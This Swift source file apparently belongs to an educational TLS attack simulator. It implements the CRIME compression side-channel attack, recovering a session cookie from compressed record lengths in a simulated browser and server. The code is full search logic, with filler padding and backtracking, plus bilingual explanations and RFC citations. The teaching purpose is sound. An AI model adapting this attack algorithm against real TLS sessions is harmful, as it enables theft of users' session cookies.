import Crypto
import Render
import Simulator
import TCPSim
import TLSSim
import Trace

/// If the attacker's text and a secret are compressed together, the length reveals the secret (Rizzo and Duong 2012).
enum Crime: Exhibit {
    static let card = Card(
        "crime", in: .record, from: .onPath, to: .read, variants: ["cookie", "short"], unit: .requests, year: 2012,
        cites: [.rfc(3749, "2"), .rfc(9325, "3.3")], cves: ["CVE-2012-4929"], words: CrimeCard.self)

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage()
        let digits = show.variant == "short" ? 3 : 16
        let methods: [UInt8] = show.isWhole ? [0] : [1, 0]
        // Half of the rule: the browser prefers no compression, and still offers it. The server chooses the method.
        let offered = show.isHalf ? [0, 1] : methods
        let browser = try Browser(
            show, on: stage, suite: .rsaAES128GCM, digits: digits, server: { $0.compressionMethods = methods },
            client: { $0.compressionMethods = offered })
        let attacker = show.attacker(on: stage)
        browser.begin(attacker)
        var search = CrimeSearch(attacker, browser, digits: digits)
        let found = search.cookie()
        var outcome = Outcome()
        outcome.tries = search.guesses.count
        outcome.reached = found != nil
        outcome.loot = found.map { [("cookie", $0)] } ?? []
        outcome.truth = [("cookie", browser.cookie)]
        outcome.theory = Theory(
            median: Double(16 * digits + 2),
            Words(
                english: "16 for each of L digits and 2 for the end, and more where lengths are alike",
                chinese: "L 位中的每一位 16 次，结尾 2 次，长度相同时更多"),
            [("L", Double(digits))])
        outcome.evidence = [
            ("server", .socket(Socket(.server, 443))), ("client", .socket(IPv4Address.client)),
            (
                "guesses",
                .array(
                    search.guesses.map {
                        .members(
                            ("text", .string($0.text)), ("filler", .number($0.filler)), ("frame", .number($0.frame)),
                            ("length", .number($0.length)))
                    })
            ),
        ]
        outcome.connections = [0, 1, 2, browser.connections - 1]
        outcome.say(CrimeNote.asks)
        outcome.say(CrimeNote.reckons)
        let first = search.guesses.prefix(16)
        outcome.say(
            CrimeNote.lengths(first.map { ($0.text, $0.length) }), frames: first.map(\.frame))
        if let found {
            if search.doubts > 0 { outcome.say(CrimeNote.doubts(search.doubts)) }
            outcome.say(CrimeNote.read(String(decoding: found, as: UTF8.self)), [.init("cookie", found)])
        } else {
            outcome.say(CrimeNote.nothing(search.guesses.count), cite: .rfc(9325, "3.3"))
        }
        outcome.reproduce = [
            "tshark -r FILE -Y 'tls.record.content_type==23 && ip.src==10.0.0.1' -T fields -e tls.record.length | head "
                + "-n 17 | tail -n 16 | sort | uniq -c"
        ]
        return outcome
    }
}

/// The attacker's search: digit after digit, with each of the sixteen in a request.
///
/// A guess stands in the path as `Cookie: id=` and digits. If it is right, the piece of the real line that DEFLATE replaces is longer by a
/// digit. Four things are in the way.
///
/// - The guess also compresses with the rest of the request. So the attacker compresses the request herself, with octets that occur
///   nowhere else in place of the unknown digits, and looks at the difference between the two lengths.
/// - The difference of a wrong digit depends on what is repeated within the cookie. So she looks for the one digit whose difference is
///   unlike the others, and not for the shortest record.
/// - Lengths are whole octets. If no digit differs, or several do, she asks again with one to seven octets of nine bits in front, and adds
///   the lengths up.
/// - A wrong digit may look right. Then no digit behind it differs from the others, and she goes back.
private struct CrimeSearch {
    /// A request with a guess.
    struct Guess {
        let text: String
        /// The number of octets of nine bits in front of the guess.
        let filler: Int
        let frame: Int
        /// The length of the record's fragment, in octets.
        let length: Int
        /// The length of the request, in octets.
        let plain: Int
    }

    private(set) var guesses: [Guess] = []
    /// The number of times that she asked for all sixteen digits again, with octets of nine bits in front.
    private(set) var doubts = 0
    private let attacker: Attacker
    private let browser: Browser
    private let digits: Int
    /// Octets that no other part of the request has. Each takes nine bits in DEFLATE's fixed Huffman codes (RFC 1951 section 3.2.6).
    private let filler: [UInt8]

    init(_ attacker: Attacker, _ browser: Browser, digits: Int) {
        self.attacker = attacker
        self.browser = browser
        self.digits = digits
        var random = attacker.random
        filler = random.octets(307).map { 0x90 + $0 % 0x70 }
    }

    /// Finds the cookie, which begins with the digits `known`; returns nil if no length reveals a further digit.
    mutating func cookie(knowing known: [UInt8] = []) -> [UInt8]? {
        if known.count == digits {
            // Behind the cookie comes a semicolon, which she knows.
            var ends = scores(known, [UInt8(ascii: ";"), UInt8(ascii: "0")], fillers: 0...0)
            if ends[0].score == ends[1].score { ends = scores(known, ends.map(\.symbol), fillers: 1...7) }
            return ends[0].score < ends[1].score ? known : nil
        }
        let rough = scores(known, Browser.digits, fillers: 0...0)
        let likely = unlikeOthers(rough)
        var tried: [UInt8] = []
        if likely.count == 1, let digit = likely.first, digit.isShorter {
            tried = [digit.symbol]
            if let found = cookie(knowing: known + tried) { return found }
        }
        // If each record is as long as its request with the explicit nonce (8 octets) and the tag (16 octets), TLS does not compress.
        guard guesses.contains(where: { $0.length != $0.plain + 24 }) else { return nil }
        doubts += 1
        let fine = scores(known, Browser.digits, fillers: 1...7)
        let sums = zip(rough, fine).map { (symbol: $0.symbol, score: $0.score + $1.score) }
        for digit in unlikeOthers(sums) where !tried.contains(digit.symbol) {
            if let found = cookie(knowing: known + [digit.symbol]) { return found }
        }
        return nil
    }

    /// The digits whose score differs from the most frequent score, the smallest score first.
    private func unlikeOthers(_ scores: [(symbol: UInt8, score: Int)]) -> [(symbol: UInt8, isShorter: Bool)] {
        let counts = scores.reduce(into: [Int: Int]()) { $0[$1.score, default: 0] += 1 }
        let usual = counts.max { ($0.value, $1.key) < ($1.value, $0.key) }?.key ?? 0
        return scores.filter { $0.score != usual }.sorted { ($0.score, $0.symbol) < ($1.score, $1.symbol) }
            .map { ($0.symbol, $0.score < usual) }
    }

    /// The score of each of the symbols behind `known`: the octets by which its record is longer than she has reckoned.
    ///
    /// - Parameter fillers: the numbers of octets of nine bits in front; the score is the sum over them.
    private mutating func scores(
        _ known: [UInt8], _ symbols: [UInt8], fillers: ClosedRange<Int>
    ) -> [(symbol: UInt8, score: Int)] {
        var scores: [(symbol: UInt8, score: Int)] = []
        for symbol in symbols {
            var sum = 0
            for count in fillers {
                let guess = Array("Cookie: id=".utf8) + known + [symbol]
                let path = Array(filler.prefix(count)) + guess + Array(filler.dropFirst(7))
                // These stand for the unknown digits: octets that no other part of the request has, of eight bits each, as digits are.
                let unlike = (0..<max(1, digits - known.count)).map { 0x80 + UInt8($0) }
                let reckoned = Deflate.compress(Browser.head(path: path) + known + unlike + Browser.tail(body: []))
                sum += ask(path, String(decoding: guess, as: UTF8.self), filler: count) - reckoned.count
            }
            scores.append((symbol, sum))
        }
        return scores
    }

    /// Has the browser send a request, and returns the length of its record's fragment.
    private mutating func ask(_ path: [UInt8], _ text: String, filler count: Int) -> Int {
        _ = attacker.look()
        browser.ask(path: path)
        let sight = attacker.wait(.seconds(5)) {
            $0.source.address == .client && $0.segment.payload.first == ContentType.applicationData.rawValue
        }
        _ = attacker.wait(.milliseconds(100))
        let length = (sight?.segment.payload.count ?? 5) - 5
        let plain = Browser.head(path: path).count + digits + Browser.tail(body: []).count
        guesses.append(Guess(text: text, filler: count, frame: sight?.frame ?? 0, length: length, plain: plain))
        return length
    }
}
